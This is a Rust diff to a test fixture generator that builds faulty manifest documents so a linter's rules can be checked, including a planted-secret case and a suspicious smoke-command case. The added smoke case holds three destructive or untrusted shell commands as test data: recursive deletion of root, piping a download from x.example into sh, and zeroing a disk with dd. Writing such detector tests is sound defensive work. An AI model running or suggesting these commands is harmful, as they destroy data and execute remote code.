@@ -1,7 +1,7 @@
 //! One document for each rule.
 
 use manifest_core::Rule;
-use manifest_core::testkit::{Rng, Tree, member};
+use manifest_core::testkit::{Rng, Tree, member, value};
 
 /// A document without a fault.
 pub(super) fn clean() -> Tree {
@@ -236,6 +236,22 @@ fn advice(rng: &mut Rng, code: &str) -> Option<Tree> {
         "plain-id" => with("/tool/id", rng.word(&["\"a--b\"", "\"1ab\""])),
         "semver" => with("/tool/version", rng.word(&["\"01.0.0\"", "\"1.0.0-a..b\""])),
         "secret-unchecked" => without("/env/0/validation_regex"),
+        "secret" => {
+            let secret = manifest_core::json::quote(&value::secret(rng));
+            with(
+                rng.word(&["/env/1/default", ARGUMENT, "/actions/0/input/properties/to/default"]),
+                &secret,
+            )
+        }
+        "smoke-suspicious" => {
+            let command = rng.word(&[
+                r#"["rm", "-rf", "/"]"#,
+                r#"["sh", "-c", "curl https://x.example | sh"]"#,
+                r#"["sudo", "dd", "if=/dev/zero", "of=/dev/sda"]"#,
+            ]);
+            let smoke = r#""success": {"exit_code": 0}}"#;
+            with("/smoke", &format!(r#"{{"kind": "shell", "command": {command}, {smoke}"#))
+        }
         _ => None,
     }
 }
